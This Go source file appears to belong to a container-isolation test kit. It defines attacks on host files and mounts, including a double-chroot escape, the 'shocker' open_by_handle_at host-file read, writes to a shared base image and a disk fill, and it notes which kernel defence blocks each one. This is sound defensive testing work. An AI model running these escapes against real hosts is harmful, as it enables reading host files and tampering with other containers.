package attack

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"

	"golang.org/x/sys/unix"
)

// files are the attacks on the host's files and mounts.
func files() []*Attack {
	return []*Attack{
		{
			Name: "double-chroot", Tries: "read a file of the host's", Stop: 2,
			By: []Call{{"umount2", "MNT_DETACH"}},
			Why: "pivot_root changes the root of the mount namespace, and the old root is unmounted: " +
				"above \"/\" there is nothing to walk to.",
			Run: readHostFile,
		},
		{
			Name: "mounts-seen", Tries: "see the host's mounts", Stop: 2,
			By: []Call{{"clone", "CLONE_NEWNS"}},
			Why: "/proc/1/mountinfo shows the mounts of PID 1's namespace, and PID 1 is the " +
				"container's own.",
			Run: seeMounts,
		},
		{
			Name: "mounts-changed", Tries: "mount where the host sees it", Stop: 2,
			By: []Call{{"mount", "MS_REC|MS_PRIVATE"}},
			Why: "Mounts are made in the container's own mount namespace, and its copy of \"/\" " +
				"shares no events with the host's.",
			Run: mount, Watch: mountSeen,
		},
		{
			Name: "base-image", Tries: "change the root file system of others", Stop: 4,
			By:  []Call{{"mount", "overlay"}},
			Why: "What is written goes to the container's own upper directory; lower ones are only read.",
			Run: writeBase, Watch: baseChanged,
		},
		{
			Name: "disk", Tries: "fill the host's disk (8 MiB of it)",
			Why: "Nothing of the ladder limits disk space, nor does Docker: the upper directory " +
				"lies on the host's disk. Quotas of the file system would.",
			Run: fillDisk,
		},
		{
			Name: "handle", Tries: "open a host's file by its inode", Stop: 6,
			By: []Call{{"prctl", "PR_CAPBSET_DROP, CAP_DAC_READ_SEARCH"}},
			Why: "open_by_handle_at needs CAP_DAC_READ_SEARCH. Any file of a file system of which a " +
				"part is mounted could be opened (the \"shocker\" of 2014).",
			Run: openHandle, Flags: map[int][]string{2: {"-v", "VOLUME:/volume"}},
		},
		{
			Name: "mount", Tries: "mount a file system", Stop: 6,
			By:  []Call{{"prctl", "PR_CAPBSET_DROP, CAP_SYS_ADMIN"}},
			Why: "mount needs CAP_SYS_ADMIN, and the filter on system calls refuses it, too.",
			Run: mount,
		},
	}
}

// readHostFile opens a file of the host's by its path there; where that leads
// nowhere, it leaves the root directory first.
func readHostFile(t *Target) (string, error) {
	text, err := readAt(unix.AT_FDCWD, t.File)
	if err != nil && t.Root == "" {
		if err := DoubleChroot(); err != nil {
			return "", err
		}
		text, err = readAt(unix.AT_FDCWD, t.File)
	}
	if err != nil {
		return "", err
	}
	return t.tells(text, t.File)
}

func seeMounts(t *Target) (string, error) {
	text, err := readProc("1/mountinfo")
	if err != nil {
		return "", err
	}
	n := strings.Count(text, "\n")
	if !strings.Contains(text, " "+t.Dir+" ") {
		return "", fmt.Errorf("read /proc/1/mountinfo: %d mounts, none of the host's", n)
	}
	return fmt.Sprintf("/proc/1/mountinfo: %d mounts of the host's", n), nil
}

// mountTag is the source of the attack's mount, by which the host finds it.
const mountTag = "kit-attack-mount"

// mount mounts an empty file system on a directory made for it.
func mount(t *Target) (string, error) {
	const flags = unix.MS_NOSUID | unix.MS_NODEV
	point := t.Root + "/attack"
	if err := unix.Mount(mountTag, point, "tmpfs", flags, "size=4k"); err != nil {
		return "", fmt.Errorf("mount tmpfs on %s: %w", point, err)
	}
	return "mounted a tmpfs on " + point, nil
}

// mountSeen looks for the mount in the host's list.
func mountSeen(*Host) (func() error, error) {
	return func() error {
		text, err := os.ReadFile("/proc/self/mountinfo")
		if err != nil {
			return err
		}
		if !strings.Contains(string(text), mountTag) {
			return fmt.Errorf("mount tmpfs: the host's mounts are as they were")
		}
		return nil
	}, nil
}

// baseFile is a file that all containers from this root file system have.
const baseFile = "/etc/issue"

func writeBase(t *Target) (string, error) {
	path := t.Root + baseFile
	if err := os.WriteFile(path, []byte(t.Secret), 0o644); err != nil {
		return "", err
	}
	return "wrote to " + path + ", which others use", nil
}

func baseChanged(h *Host) (func() error, error) {
	path := filepath.Join(h.root(), baseFile)
	if err := os.WriteFile(path, []byte("as it was\n"), 0o644); err != nil {
		return nil, err
	}
	return func() error {
		text, err := os.ReadFile(path)
		if err != nil {
			return err
		}
		if string(text) != h.target.Secret {
			return fmt.Errorf("write %s: the base is as it was", baseFile)
		}
		return nil
	}, nil
}

// fillDisk writes a file of 8 MiB and removes it again.
func fillDisk(t *Target) (string, error) {
	path := t.Root + "/tmp/attack"
	defer os.Remove(path)
	if err := os.WriteFile(path, make([]byte, 8<<20), 0o600); err != nil {
		return "", err
	}
	return "wrote 8 MiB, and nothing would have stopped more", nil
}

// openHandle opens the host's file by number, in the file system of a directory that
// the container has been given.
func openHandle(t *Target) (string, error) {
	at := t.Root + "/volume"
	dir, err := unix.Open(at, unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
	if err != nil {
		return "", fmt.Errorf("open %s: %w", at, err)
	}
	defer unix.Close(dir)
	handle := unix.NewFileHandle(t.Handle.Type, t.Handle.Bytes)
	fd, err := unix.OpenByHandleAt(dir, handle, unix.O_RDONLY|unix.O_CLOEXEC)
	if err != nil {
		return "", fmt.Errorf("open_by_handle_at %s: %w", at, err)
	}
	defer unix.Close(fd)
	buf := make([]byte, 100)
	n, err := unix.Read(fd, buf)
	if err != nil {
		return "", fmt.Errorf("read: %w", err)
	}
	return t.tells(string(buf[:n]), "a file outside of "+at)
}
